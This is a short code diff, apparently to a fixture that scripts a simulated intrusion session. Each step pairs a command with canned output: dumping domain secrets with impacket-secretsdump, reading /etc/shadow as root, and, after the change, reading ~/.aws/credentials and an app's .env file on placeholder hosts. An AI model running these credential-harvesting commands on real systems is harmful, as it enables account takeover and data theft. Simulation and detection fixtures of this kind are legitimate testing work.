@@ -178,7 +178,10 @@ READ = Session(
     (
         Step("impacket-secretsdump 'corp/svc:Vx-81-kestrel@files-02.example.com'", "Administrator:500:::"),
         Step("ssh root@db-09.example.com 'cat /etc/shadow'", "root:*:19000:0:99999:7:::"),
-        Step("ssh root@db-09.example.com 'cat /srv/app/.env'", f"DB_USER=app\nDB_PASSWORD={PASSWORD}\n"),
+        Step(
+            "ssh root@db-09.example.com 'cat ~/.aws/credentials /srv/app/.env'",
+            f"DB_USER=app\nDB_PASSWORD={PASSWORD}\n",
+        ),
     ),
 )
 USE = Session(
